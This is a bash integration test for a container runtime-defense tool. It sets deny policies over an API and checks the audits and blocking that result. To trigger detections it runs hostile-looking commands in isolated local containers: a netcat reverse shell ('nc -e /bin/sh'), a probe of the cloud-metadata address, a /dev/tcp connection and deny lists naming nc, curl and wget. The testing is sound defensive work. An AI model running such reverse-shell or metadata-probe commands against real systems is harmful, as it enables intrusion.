#!/bin/bash
# Runtime defense end to end (needs root, BTF, Debian's docker.io and busybox-static, jq, python3).
# A Console and a Defender on this machine with a private dockerd (its own bridge gdk<N>,
# 10.231.<N>.1/24; nothing leaves this machine). The Console gets a container runtime policy
# (PUT /api/v1/policies/runtime/container) and a host policy; the Defender receives it over the
# channel, loads its eBPF sensors and:
#   - in busybox and Debian containers, an explicitly denied binary, a denied listening port, an
#     outbound connection, a binary written then executed, a shell wired to a socket (reverse
#     shell), a denied DNS name and a probe of 169.254.169.254 (assigned inside the container's own
#     network namespace, so the probe stays there) each give the expected audit in
#     GET /api/v1/audits/runtime/container, with the right container, image and cluster;
#   - after the (short) learning period, a process outside the model is unexpectedProcess;
#   - a "prevent" rule scoped to one collection makes the exec (and the open) fail with EPERM in
#     that container while the same exec works in another one; "block" stops a container;
#   - the Console is stopped during a burst: every audit (counted, throttled) arrives after it
#     restarts; the Defender restarted without a Console still enforces the last policy;
#   - profiles, relearn, incidents, host audits, sensor counters in /api/v1/defenders.
set -u
cd "$(dirname "$0")/../.."
. tests/integration/testlib.bash

BIN=${GARRISON_BIN_DIR:-$PWD/build/san/bin}
API_PORT=${RT_FLOW_PORT:-28600}
DEF_PORT=$((API_PORT + 1))
TCP_PORT=$((API_PORT + 2))
NC_PORT=4444
HARNESS=tests/tools/dockerd-harness.sh
SPEC=tests/data/prisma-api/openapi-subset.json
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)
export ASAN_OPTIONS=${ASAN_OPTIONS:-}:detect_leaks=0
export GARRISON_CLOUD_METADATA=off

skip() { echo "runtime_flow: skipped: $*"; t_done; exit 0; }
command -v dockerd >/dev/null || [ -x /usr/sbin/dockerd ] || skip "dockerd is not installed"
[ -r /sys/kernel/btf/vmlinux ] || skip "this kernel has no BTF (/sys/kernel/btf/vmlinux)"
[ "$(id -u)" = 0 ] || skip "needs root"

T=$(mktemp -d /tmp/grf.XXXXXX)
D=$T/dk
cleanup() {
	t_cleanup
	bash $HARNESS stop "$D" >/dev/null 2>&1
	if [ -n "${KEEP:-}" ]; then echo "kept $T"; else rm -rf "$T"; fi
}
trap cleanup EXIT
dk() { bash $HARNESS docker "$D" "$@"; }

if ! bash $HARNESS start "$D" --bridge >"$T/harness.log" 2>&1; then
	cat "$T/harness.log"; not_ok "start a private Docker engine with a bridge"; t_done; exit 1
fi
BR_IP=10.231.$(cat "$D/harness.bridge-num").1
NOWHERE=10.231.$(cat "$D/harness.bridge-num").77
ok "a private Docker engine on $BR_IP"

# The Debian image, from the cached minbase root file system (tests/tools/debian-rootfs.sh).
if ROOTFS_TAR=$(tests/tools/debian-rootfs.sh 2>"$T/rootfs.log"); then
	dk import -c 'CMD ["/bin/bash"]' "$ROOTFS_TAR" test/debian:12 >/dev/null
	HAVE_DEBIAN=1
else
	HAVE_DEBIAN=0
	echo "# no Debian root file system: $(tail -1 "$T/rootfs.log")"
fi

# ---- host side servers on the bridge address: TCP (accepts, reads, closes) and DNS (NXDOMAIN) ---
"$PY" - "$BR_IP" "$TCP_PORT" >"$T/servers.log" 2>&1 <<'PYEOF' &
import socket, sys, threading
ip, port = sys.argv[1], int(sys.argv[2])
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind((ip, port)); t.listen(64)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((ip, 53))
def serve(c):
    c.settimeout(3)
    try:
        c.sendall(b"exit\n")
        c.recv(100)
    except Exception:
        pass
    c.close()
def tcp():
    while True:
        c, _ = t.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()
threading.Thread(target=tcp, daemon=True).start()
print("ready", flush=True)
while True:
    data, peer = u.recvfrom(2048)
    if len(data) >= 12:
        u.sendto(data[:2] + bytes([0x81, 0x83]) + data[4:6] + b"\0\0\0\0\0\0" + data[12:], peer)
PYEOF
T_PIDS+=($!)
wait_until 10 grep -q ready "$T/servers.log" || { cat "$T/servers.log"; not_ok "host servers start"; }

# ---- the Console -----------------------------------------------------------------------------
start_console() {
	GARRISON_ADMIN_PASSWORD=pw "$BIN/garrison-console" --data-dir "$T/console" \
		--api-addr "127.0.0.1:$API_PORT" --defender-addr "127.0.0.1:$DEF_PORT" --san 127.0.0.1 \
		>>"$T/console.log" 2>&1 &
	CONSOLE_PID=$!
	T_PIDS+=("$!")
	wait_until 20 curl -sf --max-time 2 --cacert "$T/console/ca.pem" \
		"https://127.0.0.1:$API_PORT/api/v1/_ping" -o /dev/null
}
api() { # METHOD PATH [BODY]
	local extra=()
	[ -n "${3:-}" ] && extra=(-H 'Content-Type: application/json' --data "$3")
	curl -sS --max-time 20 --cacert "$T/console/ca.pem" -u admin:pw -D "$T/h" -X "$1" \
		"${extra[@]}" "https://127.0.0.1:$API_PORT$2"
}
code_of() { # METHOD PATH BODY: the HTTP status only
	curl -s -o "$T/body" -w '%{http_code}' --max-time 20 --cacert "$T/console/ca.pem" -u admin:pw \
		-X "$1" -H 'Content-Type: application/json' --data "$3" "https://127.0.0.1:$API_PORT$2"
}
start_console || { not_ok "start the Console"; tail -20 "$T/console.log"; t_done; exit 1; }
ok "the Console runs"

coll() { # NAME CONTAINER-PATTERN
	api POST /api/v1/collections "{\"name\":\"$1\",\"containers\":[\"$2\"],\"images\":[\"*\"],\"hosts\":[\"*\"],\"labels\":[\"*\"],\"namespaces\":[\"*\"],\"clusters\":[\"*\"],\"appIDs\":[\"*\"],\"accountIDs\":[\"*\"]}" >/dev/null
	api GET /api/v1/collections | jq -c --arg n "$1" '.[]|select(.name==$n)'
}
PREV_COLL=$(coll rt-prevent 'rt-prev*')
BLOCK_COLL=$(coll rt-block 'rt-block*')
ALL_COLL=$(api GET /api/v1/collections | jq -c '.[]|select(.name=="All")')
check "collections for the rules" test -n "$PREV_COLL" -a -n "$BLOCK_COLL" -a -n "$ALL_COLL"

cat >"$T/policy.json" <<EOF
{"learningDisabled": false, "rules": [
 {"name": "prevent evil and secrets", "collections": [$PREV_COLL],
  "processes": {"deniedList": {"paths": ["/opt/evil/true", "/usr/bin/curl"], "effect": "prevent"}, "defaultEffect": "alert"},
  "filesystem": {"deniedList": {"paths": ["/etc/secret-data"], "effect": "prevent"}},
  "network": {"deniedIPs": ["$NOWHERE"], "deniedIPsEffect": "prevent"}},
 {"name": "block nc", "collections": [$BLOCK_COLL],
  "processes": {"deniedList": {"paths": ["nc"], "effect": "block"}}},
 {"name": "alert everywhere", "collections": [$ALL_COLL],
  "processes": {"deniedList": {"paths": ["/bin/wget"], "effect": "alert"}, "defaultEffect": "alert",
                "reverseShellEffect": "alert", "modifiedProcessEffect": "alert", "cryptoMinersEffect": "alert"},
  "network": {"listeningPorts": {"denied": [{"start": $NC_PORT, "end": $NC_PORT}], "effect": "alert"},
              "defaultEffect": "alert"},
  "dns": {"domainList": {"denied": ["*.evil.example.test"], "effect": "alert"}, "defaultEffect": "alert"},
  "cloudMetadataEnforcementEffect": "alert"}
]}
EOF
check "PUT /api/v1/policies/runtime/container" test "$(code_of PUT /api/v1/policies/runtime/container "$(cat "$T/policy.json")")" = 200 ||
	echo "# $(head -c 400 "$T/body")"
check "a malformed policy is refused with the member at fault (400)" \
	test "$(code_of PUT /api/v1/policies/runtime/container '{"rules":[{"name":"x","network":{"deniedIPs":["nope"]}}]}')" = 400
check "  and says which member" grep -q 'deniedIPs' "$T/body"
check "GET returns the stored policy" \
	test "$(api GET /api/v1/policies/runtime/container | jq -r '[.rules[].name]|join(",")')" = "prevent evil and secrets,block nc,alert everywhere"
HOSTPOL="{\"rules\":[{\"name\":\"host deny\",\"collections\":[$ALL_COLL],\"network\":{\"deniedOutboundIPs\":[\"$NOWHERE\"],\"denyListEffect\":\"alert\"}}]}"
check "PUT /api/v1/policies/runtime/host" test "$(code_of PUT /api/v1/policies/runtime/host "$HOSTPOL")" = 200
check "a collection used by a rule cannot be deleted (409)" \
	test "$(code_of DELETE /api/v1/collections/rt-prevent '')" = 409

# ---- containers, then the Defender -------------------------------------------------------------
dk run -d --name c-alert --stop-timeout 1 test/busybox:1 sleep 3600 >/dev/null
dk run -d --name rt-prev-1 --stop-timeout 1 test/busybox:1 sh -c 'echo s3cret >/etc/secret-data; mkdir -p /opt/evil && cp /bin/busybox /opt/evil/true; exec sleep 3600' >/dev/null
[ "$HAVE_DEBIAN" = 1 ] && dk run -d --name rt-prev-deb --stop-timeout 1 test/debian:12 sleep 3600 >/dev/null
dk run -d --name rt-block-1 --stop-timeout 1 test/busybox:1 sleep 3600 >/dev/null
[ "$HAVE_DEBIAN" = 1 ] && dk run -d --name c-deb --stop-timeout 1 test/debian:12 sleep 3600 >/dev/null
CID=$(dk inspect -f '{{.Id}}' c-alert)
PREV_ID=$(dk inspect -f '{{.Id}}' rt-prev-1)
BLOCK_ID=$(dk inspect -f '{{.Id}}' rt-block-1)

BUNDLE=$(api GET "/api/v1/defenders/install-bundle?consoleaddr=127.0.0.1" | jq -r .installBundle)
start_defender() {
	WS_ADDRESS=wss://127.0.0.1:$DEF_PORT INSTALL_BUNDLE=$BUNDLE DEFENDER_TYPE=docker \
		DEFENDER_CLUSTER=rt-cluster DOCKER_CLIENT_ADDRESS=$D/docker.sock GARRISON_SCAN=off \
		GARRISON_MODEL_LEARN_SEC=8 GARRISON_AUDIT_THROTTLE_SEC=5 GARRISON_DATA_DIR=$T/defender \
		"$BIN/garrison-defender" >>"$T/defender.log" 2>&1 &
	DEFENDER_PID=$!
	T_PIDS+=("$!")
}
start_defender
HOST=$(hostname)
sensor_on() { [ "$(api GET /api/v1/defenders | jq -r --arg h "$HOST" '.[]|select(.hostname==$h)|.runtime.sensor.running')" = true ]; }
check "the Defender connects and its eBPF sensors run (runtime status in /api/v1/defenders)" wait_until 60 sensor_on
policy_rev() { api GET /api/v1/defenders | jq -r --arg h "$HOST" '.[]|select(.hostname==$h)|.runtime.policy.rules'; }
policy_in() { [ "$(policy_rev)" = 3 ]; }
check "it received the policy (3 rules)" wait_until 20 policy_in
# The Debian model starts learning at its first event: give it one now (a model of a container
# that does nothing has not started yet).
[ "$HAVE_DEBIAN" = 1 ] && dk exec c-deb /bin/true
check "the policy is stored on the node" test -s "$T/defender/runtime-policy.json"

# audits COND: the container audits matching a jq condition, as a JSON array
audits() { api GET "/api/v1/audits/runtime/container?limit=0" | jq -c "[.[]|select($1)]" 2>/dev/null; }
has_audit() { [ "$(audits "$1" | jq length)" -gt 0 ] 2>/dev/null; }
IN="(.containerId==\"$CID\")"

# ---- alerts in c-alert ---------------------------------------------------------------------------
sleep 2 # the sensor and the workload cache are warm
dk exec c-alert wget -q -T 1 -O /dev/null "http://$BR_IP:$TCP_PORT/" >/dev/null 2>&1
check "explicitly denied process (wget) -> explicitlyDeniedProcess, alert" \
	wait_until 20 has_audit "$IN and .attackType==\"explicitlyDeniedProcess\" and .effect==\"alert\" and (.processPath|endswith(\"wget\"))"
audits "$IN" | jq '.[0]' >"$T/one.json"
check "  with container name, image, cluster and hostname" \
	test "$(jq -r '"\(.containerName) \(.imageName) \(.cluster) \(.hostname) \(.ruleName)"' "$T/one.json")" = "c-alert test/busybox:1 rt-cluster $HOST alert everywhere"
dk exec -d c-alert nc -l -p $NC_PORT
check "denied listening port $NC_PORT -> explicitlyDeniedListeningPort" \
	wait_until 20 has_audit "$IN and .attackType==\"explicitlyDeniedListeningPort\""
dk exec c-alert nc -w 2 "$BR_IP" "$TCP_PORT" -e /bin/sh >/dev/null 2>&1
check "a shell wired to a socket (nc -e /bin/sh) -> reverseShell" \
	wait_until 20 has_audit "$IN and .attackType==\"reverseShell\""
dk exec c-alert nslookup x.evil.example.test "$BR_IP" >/dev/null 2>&1
check "a denied DNS name -> explicitlyDeniedDNS" \
	wait_until 20 has_audit "$IN and .attackType==\"explicitlyDeniedDNS\""
dk exec c-alert sh -c 'cp /bin/busybox /tmp/true && /tmp/true'
check "a binary written then executed -> modifiedProcess" \
	wait_until 20 has_audit "$IN and .attackType==\"modifiedProcess\" and .processPath==\"/tmp/true\""
# 169.254.169.254 exists only in c-alert's own network namespace (on its lo): the probe stays there.
CPID=$(dk inspect -f '{{.State.Pid}}' c-alert)
nsenter -t "$CPID" -n ip addr add 169.254.169.254/32 dev lo
dk exec c-alert nc -w 1 169.254.169.254 80 </dev/null >/dev/null 2>&1
check "a probe of 169.254.169.254 -> cloudMetadataProbing" \
	wait_until 20 has_audit "$IN and .attackType==\"cloudMetadataProbing\""

# ---- the learned model ----------------------------------------------------------------------------
profile_state() { api GET "/api/v1/profiles/container?cluster=rt-cluster" | jq -r '.[]|select(.image=="test/busybox:1")|.state' | head -1; }
profile_active() { [ "$(profile_state)" = active ]; }
check "a model of test/busybox:1 in rt-cluster becomes active" wait_until 30 profile_active ||
	echo "# $(date +%T) $(api GET /api/v1/profiles/container | jq -c '[.[]|{image,state,created}]')"
dk exec c-alert hostname >/dev/null
check "a process outside the model -> unexpectedProcess" \
	wait_until 20 has_audit "$IN and .attackType==\"unexpectedProcess\" and (.processPath|endswith(\"hostname\"))"
if [ "$HAVE_DEBIAN" = 1 ]; then
	DEB_ID=$(dk inspect -f '{{.Id}}' c-deb)
	deb_active() { api GET "/api/v1/profiles/container" | jq -e '.[]|select(.image=="test/debian:12" and .state=="active")' >/dev/null; }
	check "a model of test/debian:12 becomes active" wait_until 30 deb_active
	dk exec c-deb /usr/bin/id >/dev/null
	check "Debian: a process outside the model -> unexpectedProcess" \
		wait_until 20 has_audit ".containerId==\"$DEB_ID\" and .attackType==\"unexpectedProcess\" and .processPath==\"/usr/bin/id\" and .imageName==\"test/debian:12\""
fi
code=$(code_of POST /api/v1/profiles/container/learn '{}')
check "relearn (POST /api/v1/profiles/container/learn)" test "$code" = 200
profile_learning() { [ "$(profile_state)" = learning ]; }
check "  puts the model back to learning" wait_until 20 profile_learning

# ---- prevent and block ---------------------------------------------------------------------------
# fanotify sees the file executed, not the name it was called by: busybox applets are all
# /bin/busybox, so the prevent rule names real files (a copy of busybox, Debian's curl).
dk exec rt-prev-1 /opt/evil/true true >"$T/prev.out" 2>&1
check "prevent: exec of /opt/evil/true (a copy of busybox) fails in rt-prev-1 (permission denied)" grep -qiE 'permission denied|not permitted' "$T/prev.out"
dk exec c-alert sh -c 'mkdir -p /opt/evil && cp /bin/busybox /opt/evil/true && /opt/evil/true true' >"$T/other.out" 2>&1
check "  while the same exec runs in c-alert" test ! -s "$T/other.out"
check "  the audit says prevent" wait_until 20 has_audit ".containerId==\"$PREV_ID\" and .attackType==\"explicitlyDeniedProcess\" and .effect==\"prevent\" and .processPath==\"/opt/evil/true\""
if [ "$HAVE_DEBIAN" = 1 ]; then
	dk exec rt-prev-deb /usr/bin/curl --version >"$T/curl.out" 2>&1
	check "prevent in Debian: /usr/bin/curl cannot run in rt-prev-deb" grep -qiE 'permission denied|not permitted' "$T/curl.out"
	dk exec c-deb /usr/bin/curl --version >"$T/curl2.out" 2>&1
	check "  but runs in c-deb" grep -q '^curl ' "$T/curl2.out"
fi
dk exec rt-prev-1 cat /etc/secret-data >"$T/cat.out" 2>&1
check "prevent: opening /etc/secret-data fails in rt-prev-1" grep -qiE 'permission denied|not permitted' "$T/cat.out"
check "  audited as explicitlyDeniedFile, prevent" wait_until 20 has_audit ".containerId==\"$PREV_ID\" and .attackType==\"explicitlyDeniedFile\" and .effect==\"prevent\""
dk exec rt-prev-1 nc -w 1 "$NOWHERE" 80 >"$T/nc.out" 2>&1
check "prevent: connect to a denied IP fails in rt-prev-1" grep -qiE 'not permitted|permission denied' "$T/nc.out"
dk exec rt-block-1 nc -w 1 "$BR_IP" "$TCP_PORT" >/dev/null 2>&1
stopped() { [ "$(dk inspect -f '{{.State.Running}}' rt-block-1)" = false ]; }
check "block: rt-block-1 is stopped after running nc" wait_until 30 stopped
check "  the audit says block" wait_until 20 has_audit ".containerId==\"$BLOCK_ID\" and .effect==\"block\""
check "c-alert still runs" test "$(dk inspect -f '{{.State.Running}}' c-alert)" = true

# ---- host audits -----------------------------------------------------------------------------------
timeout 2 bash -c "echo > /dev/tcp/$NOWHERE/9" 2>/dev/null
host_audit() { api GET "/api/v1/audits/runtime/host?hostname=$HOST&limit=0" | jq -e '.[]|select(.attackType=="explicitlyDeniedIP")' >/dev/null; }
check "a host connection to a denied IP -> host audit explicitlyDeniedIP" wait_until 20 host_audit

# ---- no loss while the Console is down -------------------------------------------------------------
# (/bin/wget by its path: the count must not mix in applets busybox sh runs as /proc/self/exe)
count_of() { audits "$IN and .attackType==\"explicitlyDeniedProcess\"" | jq '[.[].count]|add // 0'; }
sleep 6 # the throttle window of the earlier wget audits has closed and its update is stored
BEFORE=$(count_of)
kill "$CONSOLE_PID"; wait "$CONSOLE_PID" 2>/dev/null
N=150
dk exec c-alert sh -c "i=0; while [ \$i -lt $N ]; do /bin/wget -q -T 1 -O /dev/null http://$BR_IP:$TCP_PORT/ 2>/dev/null; i=\$((i+1)); done"
sleep 6
start_console
check "the Console restarts" test $? = 0
all_there() { [ "$(count_of)" = $((BEFORE + N)) ]; }
check "every one of the $N audits of the burst arrives (counts $BEFORE + $N)" wait_until 60 all_there
echo "# counted $(count_of), expected $((BEFORE + N))"
api GET "/api/v1/audits/runtime/container?containerID=$CID&attackType=explicitlyDeniedProcess&limit=2" >"$T/page.json"
check "filters, paging and Total-Count" \
	test "$(jq length "$T/page.json")" -le 2 -a -n "$(grep -i '^Total-Count: [1-9]' "$T/h")"
api GET /api/v1/audits/runtime/container >"$T/audits.json"
check "audits match Prisma's -_shared.RuntimeAudit schema" \
	"$PY" tests/tools/validate_openapi.py "$SPEC" -_shared.RuntimeAudit "$T/audits.json"

# ---- incidents -----------------------------------------------------------------------------------
api GET "/api/v1/audits/incidents?hostname=$HOST" >"$T/incidents.json"
check "an incident groups c-alert's audits" \
	test "$(jq --arg c "$CID" '[.[]|select(.containerID==$c)|.audits|length]|max // 0' "$T/incidents.json")" -ge 2
check "incidents match Prisma's -_shared.Incident schema" \
	"$PY" tests/tools/validate_openapi.py "$SPEC" -_shared.Incident "$T/incidents.json"

# ---- the last policy holds without a Console ---------------------------------------------------------
kill "$CONSOLE_PID"; wait "$CONSOLE_PID" 2>/dev/null
kill "$DEFENDER_PID"; wait "$DEFENDER_PID" 2>/dev/null
dk exec rt-prev-1 /opt/evil/true true >"$T/prev2.out" 2>&1
check "a stopped Defender leaves nothing behind: /opt/evil/true runs in rt-prev-1" test ! -s "$T/prev2.out"
start_defender
enforcing() {
	dk exec rt-prev-1 /opt/evil/true true >"$T/prev3.out" 2>&1
	grep -qiE 'permission denied|not permitted' "$T/prev3.out"
}
check "a restarted Defender without a Console enforces the stored policy" wait_until 30 enforcing
grep -E 'runtime|rtengine|rtenforce' "$T/defender.log" | tail -5 | sed 's/^/# /'
t_done
